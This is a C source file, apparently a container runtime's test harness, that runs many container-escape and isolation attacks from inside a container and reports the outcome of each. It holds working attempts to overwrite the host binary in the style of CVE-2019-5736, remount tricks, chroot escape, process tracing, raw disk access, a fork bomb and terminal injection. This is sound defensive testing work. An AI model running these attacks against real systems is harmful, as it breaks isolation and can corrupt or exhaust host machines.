/* SPDX-License-Identifier: MIT */

/* What somebody does who has taken over a container. `attacker NAME [ARGUMENTS]` tries one attack from inside, tells what
 * came of it in one line and exits with
 *
 *     0  it succeeded       1  it was refused       2  it could not be tried here
 *
 * A file that is being executed cannot be written to (ETXTBSY), and the kernel says so before it looks whether the mount
 * is read-only. Only the two truncations ask the mount first: so ETXTBSY from them means that the file was within reach and
 * only had to be waited for, which counts as success. */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { succeeded = 0, refused = 1, not_tried = 2 };

#ifndef CLONE_NEWUSER
#define CLONE_NEWUSER 0x10000000
#endif
#ifndef CLONE_NEWNS
#define CLONE_NEWNS 0x00020000
#endif
#ifndef TIOCSTI
#define TIOCSTI 0x5412
#endif
#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif
#define CALL_MOUNT_SETATTR 442
#define CALL_OPEN_TREE 428
#define CALL_MOVE_MOUNT 429

static int say(int result, const char* format, ...)
{
    static const char* const words[] = {"succeeded", "refused", "not tried"};
    va_list list;
    va_start(list, format);
    printf("%s: ", words[result]);
    vprintf(format, list);
    printf("\n");
    va_end(list);
    fflush(stdout);
    return result;
}

static int is_wall(int error)
{
    return error == EACCES || error == EPERM || error == EROFS;
}

/* --- Our own binary ------------------------------------------------------------------------------- */

/* All the ways to write to `path`. True when one led there; `how` says which, or why none did. */
static int can_write(const char* path, char* how, size_t size)
{
    static const int ways[] = {O_WRONLY, O_RDWR, O_WRONLY | O_APPEND, O_RDWR | O_TRUNC};
    char names[3][64];
    int held[2];
    int why = 0, reached = 0;
    snprintf(names[0], sizeof names[0], "%s", path);
    for (int index = 0; index < 2; ++index) {
        held[index] = open(path, (index == 0 ? O_PATH : O_RDONLY) | O_CLOEXEC);
        snprintf(names[1 + index], sizeof names[1 + index], "/proc/self/fd/%d", held[index]);
    }
    for (int name = 0; name < 3 && !reached; ++name) {
        if (name > 0 && held[name - 1] < 0)
            continue;
        for (size_t way = 0; way < sizeof ways / sizeof *ways && !reached; ++way) {
            const int fd = open(names[name], ways[way] | O_CLOEXEC);
            why = errno;
            reached = fd >= 0 || (why == ETXTBSY && (ways[way] & O_TRUNC) != 0);
            if (fd >= 0)
                close(fd);
        }
        if (!reached) {
            reached = truncate(names[name], 0) == 0 || errno == ETXTBSY;
            why = errno;
        }
    }
    for (int index = 0; index < 2; ++index)
        if (held[index] >= 0)
            close(held[index]);
    snprintf(how, size, "%s: %s", path, reached ? "within reach" : strerror(why));
    return reached;
}

/* write-exe PID: overwrite what PID executes. */
static int write_exe(char** words)
{
    char path[64], how[200];
    snprintf(path, sizeof path, "/proc/%s/exe", words[0]);
    const int reached = can_write(path, how, sizeof how);
    return say(reached ? succeeded : refused, "%s", how);
}

/* write-fds PID: the same through every descriptor PID holds. */
static int write_fds(char** words)
{
    char path[64], file[400];
    snprintf(path, sizeof path, "/proc/%s/fd", words[0]);
    DIR* directory = opendir(path);
    if (directory == NULL)
        return say(is_wall(errno) ? refused : not_tried, "%s: %s", path, strerror(errno));
    struct dirent* entry;
    int seen = 0;
    while ((entry = readdir(directory)) != NULL) {
        char target[256] = "";
        if (entry->d_name[0] == '.')
            continue;
        snprintf(file, sizeof file, "%s/%s", path, entry->d_name);
        seen += readlink(file, target, sizeof target - 1) > 0;
    }
    closedir(directory);
    return seen > 0 ? say(succeeded, "%d descriptors of %s can be seen", seen, words[0])
                    : say(refused, "none can be seen");
}

/* Clears the read-only flag of the mount that `path` is on, then writes. From a user namespace of our own, where we
 * have every capability over what the kernel lets us. */
static int write_after_remount(const char* path)
{
    struct {
        uint64_t set, clear, propagation, userns;
    } attributes = {0, MS_RDONLY, 0, 0};
    char by_number[64], how[200];
    const int held = open(path, O_PATH | O_CLOEXEC);
    if (held < 0)
        return say(is_wall(errno) ? refused : not_tried, "%s: %s", path, strerror(errno));
    snprintf(by_number, sizeof by_number, "/proc/self/fd/%d", held);
    int changed =
        syscall(CALL_MOUNT_SETATTR, held, "", 0x1000 /* AT_EMPTY_PATH */, &attributes, sizeof attributes) == 0;
    changed |= mount(NULL, by_number, NULL, MS_REMOUNT | MS_BIND, NULL) == 0;
    if (can_write(path, how, sizeof how))
        return say(succeeded, "%s (%sflags changed)", how, changed ? "" : "no ");

    /* A clone of the mount, and a bind of the file somewhere else. */
    const int tree = (int)syscall(CALL_OPEN_TREE, held, "", 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC | 0x1000);
    if (tree >= 0) {
        (void)syscall(CALL_MOUNT_SETATTR, tree, "", 0x1000, &attributes, sizeof attributes);
        snprintf(by_number, sizeof by_number, "/proc/self/fd/%d", tree);
        if (can_write(by_number, how, sizeof how))
            return say(succeeded, "%s through a clone of its mount", how);
        snprintf(by_number, sizeof by_number, "/proc/self/fd/%d", held);
    }
    const int target = open("/tmp/bound", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    if (target >= 0)
        close(target);
    if (mount(by_number, "/tmp/bound", NULL, MS_BIND, NULL) == 0) {
        (void)mount(NULL, "/tmp/bound", NULL, MS_REMOUNT | MS_BIND, NULL);
        if (can_write("/tmp/bound", how, sizeof how))
            return say(succeeded, "%s through a bind mount", how);
    }
    return say(refused, "%s", how);
}

/* remount-exe PID, remount-exe-nested PID. */
static int remount_exe(char** words)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", words[0]);
    return write_after_remount(path);
}

static int remount_exe_nested(char** words)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
        return say(is_wall(errno) ? refused : not_tried, "unshare: %s", strerror(errno));
    return remount_exe(words);
}

/* --- Other processes ------------------------------------------------------------------------------ */

static int read_something(const char* path)
{
    char byte;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t got = read(fd, &byte, 1);
    close(fd);
    return got > 0;
}

/* process PID: memory, descriptors, root and environment of another process. */
static int process(char** words)
{
    static const char* const readable[] = {"environ", "maps", "smaps", "pagemap", "auxv", "io", "stack", "syscall"};
    static const char* const links[] = {"root", "cwd", "exe", "ns/mnt", "ns/pid", "ns/user", "ns/net", "fd/0", "fd/3"};
    char path[96], target[256];
    for (size_t index = 0; index < sizeof readable / sizeof *readable; ++index) {
        snprintf(path, sizeof path, "/proc/%s/%s", words[0], readable[index]);
        if (read_something(path))
            return say(succeeded, "%s can be read", path);
    }
    for (size_t index = 0; index < sizeof links / sizeof *links; ++index) {
        snprintf(path, sizeof path, "/proc/%s/%s", words[0], links[index]);
        if (readlink(path, target, sizeof target) > 0)
            return say(succeeded, "%s can be followed", path);
        if (open(path, O_PATH | O_CLOEXEC) >= 0)
            return say(succeeded, "%s can be entered", path);
    }
    snprintf(path, sizeof path, "/proc/%s/mem", words[0]);
    if (open(path, O_RDONLY | O_CLOEXEC) >= 0 || open(path, O_RDWR | O_CLOEXEC) >= 0)
        return say(succeeded, "%s is open", path);
    if (errno == ENOENT)
        return say(not_tried, "no process %s", words[0]);
    /* The knobs that anybody with the same user id may turn. */
    snprintf(path, sizeof path, "/proc/%s/oom_score_adj", words[0]);
    return say(refused, "nothing of %s is open", words[0]);
}

/* trace PID: the calls that reach into another process. */
static int trace(char** words)
{
    pid_t pid = atoi(words[0]);
    char byte = 0;
    struct iovec here = {&byte, 1}, there = {(void*)0x400000, 1};
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 || ptrace(PTRACE_ATTACH, pid, 0, 0) == 0)
        return say(succeeded, "%s is traced", words[0]);
    int error = errno;
    if (process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT)
        return say(succeeded, "the memory of %s can be read", words[0]);
    int pidfd = (int)syscall(434 /* pidfd_open */, pid, 0);
    if (pidfd >= 0 && syscall(438 /* pidfd_getfd */, pidfd, 0, 0) >= 0)
        return say(succeeded, "a descriptor of %s was taken", words[0]);
    return say(is_wall(error) ? refused : not_tried, "%s", strerror(error));
}

/* limits PID: without room for descriptors, or with a second of processor time, no process goes far. */
static int limits(char** words)
{
    const struct rlimit none = {0, 0};
    if (syscall(SYS_prlimit64, atoi(words[0]), RLIMIT_CORE, &none, NULL) == 0)
        return say(succeeded, "%s has a limit of ours", words[0]);
    return say(is_wall(errno) ? refused : not_tried, "%s", strerror(errno));
}

static int is_pipe(const char* target)
{
    return strncmp(target, "pipe:", 5) == 0 || strncmp(target, "socket:", 7) == 0 || strncmp(target, "/dev/", 5) == 0;
}

/* Descriptors of a process that belong to the host: control groups, namespaces, vial's state. */
static int holds_the_hosts(int pid)
{
    char path[64], target[256];
    for (int fd = 3; fd < 24; ++fd) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        const ssize_t length = readlink(path, target, sizeof target - 1);
        target[length > 0 ? length : 0] = 0;
        if (is_pipe(target) || length <= 0)
            continue;
        if (strstr(target, "cgroup") != NULL || strstr(target, "/vial") != NULL || strstr(target, "mnt:[") != NULL) {
            printf("descriptor %d of %d: %s\n", fd, pid, target);
            return 1;
        }
    }
    return 0;
}

/* hunt SECONDS [exe]: waits for processes that come in from outside and tries to write to what they execute, as it was done in
 * CVE-2019-5736: a /proc/PID/exe that could be opened is kept, and tried until the process has gone on to something else and the
 * file is no longer busy. Appends HUNTED to what it gets. Unless told `exe`, a descriptor of the host's that it
 * finds in such a process counts as well. Ends early when /tmp/hunt-over is there. */
static int hunt(char** words)
{
    enum { kept = 64 };
    const time_t end = time(NULL) + atoi(words[0]);
    static unsigned char met[65536];
    int seen = 0, opened = 0, held[kept];
    for (int index = 0; index < kept; ++index)
        held[index] = -1;
    if (open("/tmp/hunting", O_CREAT | O_WRONLY | O_CLOEXEC, 0600) < 0)
        return say(not_tried, "/tmp: %s", strerror(errno));
    while (time(NULL) < end && access("/tmp/hunt-over", F_OK) != 0) {
        DIR* directory = opendir("/proc");
        struct dirent* entry;
        while (directory != NULL && (entry = readdir(directory)) != NULL) {
            char path[300];
            const int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid() || pid >= (int)sizeof met)
                continue;
            seen += !met[pid];
            met[pid] = 1;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            const int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue;
            if (words[1] == NULL && holds_the_hosts(pid))
                return say(succeeded, "a descriptor of the host's");
            int* place = &held[opened++ % kept];
            if (*place >= 0)
                close(*place);
            *place = fd;
        }
        if (directory != NULL)
            closedir(directory);
        for (int index = 0; index < kept; ++index) {
            char again[64];
            if (held[index] < 0)
                continue;
            snprintf(again, sizeof again, "/proc/self/fd/%d", held[index]);
            const int fd = open(again, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (fd >= 0 && write(fd, "HUNTED", 6) == 6)
                return say(succeeded, "written to, after %d seen", seen);
            if (fd >= 0)
                close(fd);
        }
    }
    return say(seen > 0 ? refused : not_tried, "seen %d, opened %d", seen, opened);
}

/* naive-exec PID PROGRAM: run on the host: what an `exec` does that takes no care. */
static int naive_exec(char** words)
{
    static const char* const kinds[] = {"cgroup", "ipc", "uts", "net", "pid", "mnt"};
    int namespaces[6];
    char path[64];
    for (int index = 0; index < 6; ++index) {
        snprintf(path, sizeof path, "/proc/%s/ns/%s", words[0], kinds[index]);
        namespaces[index] = open(path, O_RDONLY | O_CLOEXEC);
    }
    for (int index = 0; index < 6; ++index)
        if (namespaces[index] < 0 || setns(namespaces[index], 0) != 0)
            return say(not_tried, "%s: %s", kinds[index], strerror(errno));
    const pid_t child = fork();
    if (child == 0) {
        execl(words[1], words[1], "brief", (char*)NULL);
        _exit(127);
    }
    int status = 0;
    waitpid(child, &status, 0);
    return say(WIFEXITED(status) && WEXITSTATUS(status) == 0 ? succeeded : not_tried, "status %x", status);
}

/* brief: a process that is there for a moment. */
static int brief(char** words)
{
    (void)words;
    usleep(20000);
    return 0;
}

/* swap A B: run on the host: exchanges the two names as fast as it can, for ever. */
static int swap(char** words)
{
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1], 2 /* RENAME_EXCHANGE */) != 0)
            return say(not_tried, "%s", strerror(errno));
    return not_tried;
}

/* kill PID...: end processes of the host by their numbers there. (kill(-1) would end our own shell as well.) */
static int kill_them(char** words)
{
    int found = 0;
    for (; *words != NULL; ++words)
        found += kill(atoi(*words), SIGKILL) == 0 && atoi(*words) != getpid();
    return found > 0 ? say(succeeded, "%d killed", found) : say(refused, "%s", strerror(errno));
}

/* --- Descriptors and directories ------------------------------------------------------------------ */

/* descriptors: any beside 0-2, and any of these that is a directory. */
static int descriptors(char** words)
{
    (void)words;
    struct stat found;
    for (int fd = 0; fd < 4096; ++fd) {
        char path[64], target[200] = "";
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        (void)!readlink(path, target, sizeof target - 1);
        if (fd > 2)
            return say(succeeded, "descriptor %d: %s", fd, target);
        if (fstat(fd, &found) == 0 && S_ISDIR(found.st_mode))
            return say(succeeded, "descriptor %d is the directory %s", fd, target);
    }
    return say(refused, "0-2 alone");
}

/* outside MARKER: is the host's MARKER in reach from where we stand? By `..` until nothing changes, and through
 * the root. */
static int outside(char** words)
{
    char path[4096];
    if (getcwd(path, sizeof path) == NULL || path[0] != '/')
        return say(succeeded, "the working directory lies outside the root");
    for (int level = 0; level < 40; ++level)
        (void)!chdir("..");
    snprintf(path, sizeof path, ".%s", words[0]);
    if (access(path, F_OK) == 0 || access(words[0], F_OK) == 0)
        return say(succeeded, "%s is there", words[0]);
    return say(refused, "no %s", words[0]);
}

/* chroot MARKER: the classic: a root below us while our directory stays above. */
static int leave_chroot(char** words)
{
    (void)mkdir("/tmp/cell", 0700);
    int here = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/cell") != 0)
        return say(is_wall(errno) ? refused : not_tried, "chroot: %s", strerror(errno));
    if (here < 0 || fchdir(here) != 0)
        return say(not_tried, "fchdir: %s", strerror(errno));
    for (int level = 0; level < 100; ++level)
        (void)!chdir("..");
    (void)!chroot(".");
    return access(words[0], F_OK) == 0 ? say(succeeded, "%s is there", words[0]) : say(refused, "no %s", words[0]);
}

/* --- Files that must not be written, or read ------------------------------------------------------ */

/* write FILE TEXT. A write that vanishes into the null device is a refusal. */
static int write_file(char** words)
{
    struct stat found;
    int fd = open(words[0], O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return say(errno == ENOENT ? not_tried : refused, "%s: %s", words[0], strerror(errno));
    if (fstat(fd, &found) == 0 && S_ISCHR(found.st_mode) && found.st_rdev == makedev(1, 3))
        return say(refused, "%s is the null device", words[0]);
    if (words[1] != NULL && write(fd, words[1], strlen(words[1])) < 0)
        return say(refused, "%s: %s", words[0], strerror(errno));
    return say(succeeded, "%s is open for writing", words[0]);
}

/* read FILE: a byte of it, or, of a directory, an entry. */
static int read_file(char** words)
{
    struct stat found;
    if (stat(words[0], &found) != 0)
        return say(errno == ENOENT ? not_tried : refused, "%s: %s", words[0], strerror(errno));
    if (!S_ISDIR(found.st_mode))
        return read_something(words[0]) ? say(succeeded, "%s can be read", words[0]) : say(refused, "nothing in it");
    DIR* directory = opendir(words[0]);
    struct dirent* entry;
    while (directory != NULL && (entry = readdir(directory)) != NULL)
        if (entry->d_name[0] != '.')
            return say(succeeded, "%s holds %s", words[0], entry->d_name);
    return say(refused, "it is empty");
}

/* unmask PATH: take away, move or make writable what is mounted there. */
static int unmask(char** words)
{
    int error = EPERM;
    if (umount2(words[0], MNT_DETACH) == 0)
        return say(succeeded, "%s is unmounted", words[0]);
    error = errno;
    if (mount(NULL, words[0], NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
        return say(succeeded, "%s is remounted", words[0]);
    if (mount(words[0], "/tmp", NULL, MS_MOVE, NULL) == 0)
        return say(succeeded, "%s is moved", words[0]);
    return say(is_wall(error) ? refused : not_tried, "%s: %s", words[0], strerror(error));
}

/* mount-below DIRECTORY: a tmpfs with a file `from-inside` in it. */
static int mount_below(char** words)
{
    char path[300];
    snprintf(path, sizeof path, "%s/inner", words[0]);
    (void)mkdir(path, 0755);
    if (mount("inside", path, "tmpfs", 0, NULL) != 0)
        return say(is_wall(errno) ? refused : not_tried, "mount on %s: %s", path, strerror(errno));
    strcat(path, "/from-inside");
    return open(path, O_CREAT | O_WRONLY, 0644) >= 0 ? say(succeeded, "%s", path) : say(not_tried, "%s", path);
}

/* --- The machine ---------------------------------------------------------------------------------- */

/* disk MAJOR MINOR: a device node of the host's, made and opened. */
static int disk(char** words)
{
    const dev_t number = makedev(atoi(words[0]), atoi(words[1]));
    static const char* const places[] = {"/tmp/disk", "/dev/disk", "/dev/shm/disk", "/run/disk"};
    int made = 0;
    for (size_t index = 0; index < sizeof places / sizeof *places; ++index) {
        if (mknod(places[index], S_IFBLK | 0600, number) != 0)
            continue;
        ++made;
        int fd = open(places[index], O_RDONLY | O_CLOEXEC);
        (void)unlink(places[index]);
        if (fd >= 0)
            return say(succeeded, "%s is the disk", places[index]);
    }
    return say(refused, "%d made, none opened: %s", made, strerror(errno));
}

static int raw_socket(char** words)
{
    (void)words;
    if (socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0) >= 0)
        return say(succeeded, "a packet socket");
    if (socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, 1) >= 0)
        return say(succeeded, "a raw socket");
    return say(is_wall(errno) ? refused : not_tried, "%s", strerror(errno));
}

static int host_name(char** words)
{
    (void)words;
    return sethostname("taken", 5) == 0 ? say(succeeded, "the name is changed") : say(refused, "%s", strerror(errno));
}

/* set-uid: executed by another user, are we root now? */
static int set_uid(char** words)
{
    (void)words;
    FILE* status = fopen("/proc/self/status", "r");
    char line[200];
    uint64_t effective = 0;
    while (status != NULL && fgets(line, sizeof line, status) != NULL)
        if (strncmp(line, "CapEff:", 7) == 0)
            effective = strtoull(line + 7, NULL, 16);
    if (geteuid() == 0 || effective != 0)
        return say(succeeded, "user %d, capabilities %llx", (int)geteuid(), (unsigned long long)effective);
    return say(refused, "user %d", (int)geteuid());
}

/* cgroup: a control group to write to: one that is mounted, or one that we mount. */
static int control_group(char** words)
{
    (void)words;
    FILE* list = fopen("/proc/self/mountinfo", "r");
    char line[4096];
    while (list != NULL && fgets(line, sizeof line, list) != NULL)
        if (strstr(line, " - cgroup") != NULL)
            return say(succeeded, "one is mounted: %s", line);
    (void)mkdir("/tmp/groups", 0700);
    if (mount("g", "/tmp/groups", "cgroup", 0, "pids") == 0 || mount("g", "/tmp/groups", "cgroup2", 0, NULL) == 0)
        return say(succeeded, "mounted");
    return say(is_wall(errno) ? refused : not_tried, "%s", strerror(errno));
}

/* fork-bomb: as many as there can be, each waiting for ever. Prints how many there are. */
static int fork_bomb(char** words)
{
    const int most = words[0] != NULL ? atoi(words[0]) : 20000;
    int count = 0;
    while (count < most) {
        pid_t pid = fork();
        if (pid < 0)
            break;
        if (pid == 0) {
            for (;;)
                pause();
        }
        ++count;
    }
    printf("forked %d\n", count);
    fflush(stdout);
    for (;;) {
        if (fork() == 0)
            for (;;)
                pause();
        usleep(1000);
    }
    return not_tried;
}

/* flood: writes at full speed, for ever, deaf to SIGTERM when told so. */
static int flood(char** words)
{
    static char block[65536];
    memset(block, 'x', sizeof block);
    for (size_t at = 79; at < sizeof block; at += 80)
        block[at] = '\n';
    if (words[0] != NULL)
        signal(SIGTERM, SIG_IGN);
    for (;;)
        if (write(1, block, sizeof block) < 0 && errno != EAGAIN && errno != EINTR)
            return say(not_tried, "write: %s", strerror(errno));
}

/* --- System calls --------------------------------------------------------------------------------- */

/* Arguments that do no harm where nothing refuses the call: they are wrong, and the kernel says so with
 * something else than EPERM. */
struct row {
    const char* name;
    long number;
    long arguments[6];
    int answer; /* what the filter says */
};

static const struct row rows[] = {
    {"unshare(NEWUSER)", SYS_unshare, {CLONE_NEWUSER}, EPERM},
    {"unshare(NEWUSER|NEWNS)", SYS_unshare, {CLONE_NEWUSER | CLONE_NEWNS}, EPERM},
    {"clone3", 435, {0, 0}, ENOSYS},
    {"setns", SYS_setns, {-1, 0}, EPERM},
    {"mount", SYS_mount, {0, 0, 0, 0, 0}, EPERM},
    {"umount2", SYS_umount2, {0, 0}, EPERM},
    {"pivot_root", SYS_pivot_root, {0, 0}, EPERM},
    {"open_tree", CALL_OPEN_TREE, {-1, 0, 0}, EPERM},
    {"move_mount", CALL_MOVE_MOUNT, {-1, 0, -1, 0, 0}, EPERM},
    {"mount_setattr", CALL_MOUNT_SETATTR, {-1, 0, 0, 0, 0}, EPERM},
    {"open_tree_attr", 467, {-1, 0, 0, 0, 0}, EPERM},
    {"fsopen", 430, {0, 0}, EPERM},
    {"fsconfig", 431, {-1, 0, 0, 0, 0}, EPERM},
    {"fsmount", 432, {-1, 0, 0}, EPERM},
    {"fspick", 433, {-1, 0, 0}, EPERM},
    {"init_module", SYS_init_module, {0, 0, 0}, EPERM},
    {"finit_module", SYS_finit_module, {-1, 0, 0}, EPERM},
    {"delete_module", SYS_delete_module, {0, 0}, EPERM},
    {"kexec_load", SYS_kexec_load, {0, 0, 0, -1}, EPERM},
    {"bpf", SYS_bpf, {-1, 0, 0}, EPERM},
    {"add_key", SYS_add_key, {0, 0, 0, 0, 0}, EPERM},
    {"request_key", SYS_request_key, {0, 0, 0, 0}, EPERM},
    {"keyctl", SYS_keyctl, {-1}, EPERM},
    {"ptrace", SYS_ptrace, {-1, -1, 0, 0}, EPERM},
    {"process_vm_readv", SYS_process_vm_readv, {-1, 0, 0, 0, 0, 0}, EPERM},
    {"process_vm_writev", SYS_process_vm_writev, {-1, 0, 0, 0, 0, 0}, EPERM},
    {"pidfd_getfd", 438, {-1, 0, 0}, EPERM},
    {"kcmp", SYS_kcmp, {-1, -1, 0, 0, 0}, EPERM},
    {"perf_event_open", SYS_perf_event_open, {0, 0, 0, 0, 0}, EPERM},
    {"userfaultfd", SYS_userfaultfd, {-1}, EPERM},
    {"io_uring_setup", 425, {0, 0}, EPERM},
    {"io_uring_enter", 426, {-1, 0, 0, 0, 0}, EPERM},
    {"io_uring_register", 427, {-1, 0, 0, 0}, EPERM},
    {"open_by_handle_at", SYS_open_by_handle_at, {-1, 0, 0}, EPERM},
    {"swapon", SYS_swapon, {0, -1}, EPERM},
    {"swapoff", SYS_swapoff, {0}, EPERM},
    {"reboot", SYS_reboot, {0, 0, 0, 0}, EPERM},
    {"acct", SYS_acct, {1}, EPERM},
    {"quotactl", SYS_quotactl, {-1, 0, 0, 0}, EPERM},
    {"syslog", SYS_syslog, {-1, 0, 0}, EPERM},
#ifdef SYS_iopl
    {"iopl", SYS_iopl, {99}, EPERM},
    {"ioperm", SYS_ioperm, {-1, -1, 1}, EPERM},
#endif
#ifdef SYS_modify_ldt
    {"modify_ldt", SYS_modify_ldt, {-1, 0, 0}, EPERM},
#endif
    {"unshare(NEWNS)", SYS_unshare, {CLONE_NEWNS}, EPERM},
    {"personality", SYS_personality, {0x0040000 /* ADDR_NO_RANDOMIZE */}, EPERM},
    {"socket(AF_ALG)", SYS_socket, {38, -1, 0}, EAFNOSUPPORT},
    {"socket(AF_VSOCK)", SYS_socket, {40, -1, 0}, EAFNOSUPPORT},
    {"socketpair(AF_ALG)", SYS_socketpair, {38, -1, 0, 0}, EAFNOSUPPORT},
    {"mbind", SYS_mbind, {0, 0, -1, 0, 0, -1}, EPERM},
    {"ioctl(TIOCSTI)", SYS_ioctl, {-1, TIOCSTI, 0}, EPERM},
    {"ioctl(TIOCLINUX)", SYS_ioctl, {-1, TIOCLINUX, 0}, EPERM},
    {"ioctl(TIOCSTI), upper half set", SYS_ioctl, {-1, TIOCSTI | 0x100000000, 0}, EPERM},
};

/* filter: every row. Succeeds when one is let through; each of these is told. */
static int filter(char** words)
{
    (void)words;
    int through = 0;
    for (size_t index = 0; index < sizeof rows / sizeof *rows; ++index) {
        const struct row* row = &rows[index];
        errno = 0;
        /* In a child: unshare would change us. */
        pid_t child = fork();
        if (child == 0) {
            const long* a = row->arguments;
            const long result = syscall(row->number, a[0], a[1], a[2], a[3], a[4], a[5]);
            _exit(result == -1 ? errno : 0);
        }
        int status = 0;
        waitpid(child, &status, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == row->answer)
            continue;
        ++through;
        printf("through: %s: %s\n", row->name, strerror(WEXITSTATUS(status)));
    }
    return through > 0 ? say(succeeded, "%d of %zu calls", through, sizeof rows / sizeof *rows)
                       : say(refused, "%zu calls", sizeof rows / sizeof *rows);
}

/* new-user-clone: clone(2) itself, with a flag word whose upper half is not empty. */
static int new_user_clone(char** words)
{
    (void)words;
    const long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (child == 0)
        _exit(0);
    if (child > 0)
        return say(succeeded, "a user namespace");
    const int error = errno;
    const long other = syscall(SYS_clone, (long)CLONE_NEWUSER | SIGCHLD | (1L << 40), 0, 0, 0, 0);
    if (other == 0)
        _exit(0);
    if (other > 0)
        return say(succeeded, "a user namespace, by the upper half");
    return say(is_wall(error) ? refused : not_tried, "%s", strerror(error));
}

/* type-ahead: into a terminal that is really ours. Succeeds when the letter can be read back. */
static int type_ahead(char** words)
{
    (void)words;
    int unlocked = 0;
    int master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (master < 0 || ioctl(master, 0x40045431 /* TIOCSPTLCK */, &unlocked) != 0)
        return say(not_tried, "/dev/ptmx: %s", strerror(errno));
    if (fork() != 0) {
        int status;
        wait(&status);
        return WIFEXITED(status) ? WEXITSTATUS(status) : not_tried;
    }
    setsid();
    int slave = ioctl(master, 0x5441 /* TIOCGPTPEER */, O_RDWR | O_CLOEXEC);
    if (slave < 0 || ioctl(slave, TIOCSCTTY, 0) != 0)
        _exit(say(not_tried, "terminal: %s", strerror(errno)));
    if (syscall(SYS_ioctl, slave, TIOCSTI, "x") == 0)
        _exit(say(succeeded, "typed"));
    /* EIO: the kernel itself refuses (6.2 and newer, dev.tty.legacy_tiocsti), but the filter did not. */
    _exit(say(is_wall(errno) ? refused : succeeded, "%s", strerror(errno)));
}

/* foreign NAME: a call through another architecture's door: killed by SIGSYS, or it succeeded. */
static int foreign(char** words)
{
#if defined(__x86_64__)
    const int x32 = strcmp(words[0], "x32") == 0;
    pid_t child = fork();
    if (child == 0) {
        long result;
        if (x32)
            result = syscall(0x40000000 + SYS_getpid);
        else
            __asm__ volatile("int $0x80" : "=a"(result) : "a"(20L /* getpid */) : "memory");
        (void)result;
        _exit(0);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status) && WTERMSIG(status) == SIGSYS)
        return say(refused, "killed");
    if (WIFSIGNALED(status))
        return say(not_tried, "signal %d: this kernel has no such door", WTERMSIG(status));
    return say(succeeded, "the call was made");
#else
    (void)words;
    return say(not_tried, "not on this architecture");
#endif
}

/* idle: a service that does nothing. */
static int idle(char** words)
{
    (void)words;
    for (;;)
        pause();
    return not_tried;
}

static const struct {
    const char* name;
    int (*run)(char** words);
    int words;
} attacks[] = {
    {"brief", brief, 0},
    {"chroot", leave_chroot, 1},
    {"control-group", control_group, 0},
    {"descriptors", descriptors, 0},
    {"disk", disk, 2},
    {"filter", filter, 0},
    {"flood", flood, 0},
    {"foreign", foreign, 1},
    {"fork-bomb", fork_bomb, 0},
    {"host-name", host_name, 0},
    {"hunt", hunt, 1},
    {"idle", idle, 0},
    {"kill", kill_them, 1},
    {"limits", limits, 1},
    {"mount-below", mount_below, 1},
    {"naive-exec", naive_exec, 2},
    {"new-user-clone", new_user_clone, 0},
    {"outside", outside, 1},
    {"process", process, 1},
    {"raw-socket", raw_socket, 0},
    {"read", read_file, 1},
    {"remount-exe", remount_exe, 1},
    {"remount-exe-nested", remount_exe_nested, 1},
    {"set-uid", set_uid, 0},
    {"swap", swap, 2},
    {"trace", trace, 1},
    {"type-ahead", type_ahead, 0},
    {"unmask", unmask, 1},
    {"write", write_file, 1},
    {"write-exe", write_exe, 1},
    {"write-fds", write_fds, 1},
};

int main(int count, char** words)
{
    for (size_t index = 0; count > 1 && index < sizeof attacks / sizeof *attacks; ++index)
        if (strcmp(words[1], attacks[index].name) == 0 && count - 2 >= attacks[index].words)
            return attacks[index].run(words + 2);
    fprintf(stderr, "usage: attacker ATTACK [ARGUMENT...]\n");
    return not_tried;
}
